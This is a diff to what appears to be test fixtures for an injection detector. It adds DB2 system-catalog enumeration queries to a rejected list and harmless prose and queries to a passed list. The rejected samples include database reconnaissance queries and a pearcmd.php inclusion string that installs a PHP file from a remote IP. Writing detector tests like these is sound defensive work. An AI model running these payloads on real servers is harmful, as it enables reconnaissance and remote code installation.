@@ -32,6 +32,7 @@ REJECTED = {
         "select current timestamp from sysibm.sysdummy1",
         "select host_name from sysibmadm.env_sys_info",
         "select distinct(grantee) from sysibm.sysdbauth",
+        "select inst_name from table(sysproc.env_get_inst_info()) as t",
     ],
     "pearcmd included with arguments": [
         "/usr/local/lib/php/pearcmd.php&+install+http://203.0.113.9/x.php",
@@ -65,6 +66,8 @@ PASSED = {
         "Move the figures from sysibmadm.env_inst_info into the inventory sheet",
         "Join the tables from sysproc.admin_cmd output with the job log.",
         "SYSIBM and SYSCAT are DB2 schema names.",
+        "Pick rows from table(sysproc.env_get_inst_info()) in the DB2 docs.",
+        "select x from table(my_udf(1)) as t",
     ],
     "pearcmd named in prose": [
         "PEAR installs /usr/share/php/pearcmd.php as its command-line entry point.",
